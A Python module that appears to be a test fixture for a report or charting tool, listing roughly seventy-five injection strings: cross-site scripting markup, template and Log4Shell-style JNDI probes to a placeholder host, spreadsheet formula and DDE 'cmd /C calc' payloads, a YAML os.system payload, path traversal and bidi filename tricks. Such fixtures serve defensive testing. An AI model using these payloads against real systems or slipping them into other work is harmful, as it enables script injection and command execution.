"""Texts that do harm where a program takes text for code: seventy-five, of every kind that a report or a table could fall for."""

from __future__ import annotations

__all__ = ["FORMULA_SIGNS", "GROUPS", "NAMES_IN_FILES", "PAYLOADS", "SPREADSHEETS"]

CALL = "https://elsewhere.example/x"
SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt src=//elsewhere.example/x></sCrIpT>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><svg/onload=alert(1)>", "' onmouseover='alert(1)' x='",
    "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    f"<iframe src='{CALL}'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", f"<object data='{CALL}'>",
    f"<link rel=stylesheet href='{CALL}'>", "<meta http-equiv=refresh content='0;url=https://elsewhere.example/x'>",
    f"<base href='{CALL}'>", f"<form action='{CALL}'><button>x", "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "javascript:alert(1)", "<style>*{background:url(https://elsewhere.example/x)}</style>", "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "--!><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<a href='https://elsewhere.example/x'><b>x</b><br>y</a>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "{% for a in ().__class__.__base__.__subclasses__() %}{% endfor %}", "#{7*7}", "{unit.__class__}",
    "{0.__globals__}", "%(client)s %n", "${jndi:ldap://elsewhere.example/x}", "$\\href{javascript:alert(1)}{x}$",
    "\\(\\require{html}\\href{javascript:alert(1)}{x}\\)", f"![x]({CALL})", "[x](javascript:alert(1))",
    f"<{CALL}> [y]: {CALL}", "```\n<script>alert(1)</script>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"https://elsewhere.example/x\",\"x\")",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1",
)  # fmt: skip
OTHERS = (
    "!!python/object/apply:os.system [id]", "../../../../tmp/escaped", "CON", "\x1b]0;owned\x07\x1b[31mred",
    "a\"\nOWNED = __import__('os').getpid()\nb = \"", "\u202etxt.exe\u202c\u200b\u2066", "x" * 250,
)  # fmt: skip
# Of the newer kinds of markup, of what a chart's own texts may hold, and of ends of lines that only some programs know.
MARKUP = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<svg><style>@import '//elsewhere.example/x'",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject>", "<math href='javascript:alert(1)'>x</math>",
    "<a href=javascript&colon;alert(1) target=_self>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<span style='background:url(//elsewhere.example/x)'>x</span>", "<template><img src=x onerror=alert(1)></template>",
    "<img srcset='//elsewhere.example/x 2x'>", "<video><source onerror=alert(1)></video>", "<portal src=//elsewhere.example/x>",
    "\u2028alert(1)\u2029//", "%{customdata[0]}<extra><img src=x onerror=alert(1)></extra>",
)  # fmt: skip
# Formulas harm where a text begins with them, and have to come first where several stand together.
PAYLOADS = (*SCRIPTS, *TEMPLATES, *FORMULAS, *OTHERS, *MARKUP)
FIRST, REST = (*FORMULAS, *OTHERS, *SCRIPTS[:4]), (*TEMPLATES, *SCRIPTS[4:10])
GROUPS = tuple(" ".join(group) for group in [*zip(FIRST, SCRIPTS[10:], REST, strict=True), MARKUP[:5], MARKUP[5:10], MARKUP[10:]])
# Formulas behind what draws nothing, in cells of another separator, and in what a workbook's parts are written in.
SPREADSHEETS = (
    " =1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\n=1+1", "\0=1+1", "\x85=1+1", "﹦1+1", "﹢1",
    "﹣1", "﹫SUM(1)", "x;=1+1;y", "x;\t=1+1", "x\t=1+1\ty", "x|=1+1|y", 'x;"=1+1";y', 'x"\n=1+1', "x\r=1+1", "x\r\n@SUM(1,1)",
    "x; ＝1+1;", "x;'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "=IMPORTXML(1;2)", "_x003D_1+1", "_x000D_=1+1", "x_x000D_\n=1+1", "{=1+1}", "'=1+1", "sep=;\n=1+1",
)  # fmt: skip
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
# What a file may be called on this system: neither a slash nor a NUL.
NAMES_IN_FILES = ("a <img src=x onerror=alert(1)>.csv", "=1+1 {{7*7}} $x$ {unit}.csv")
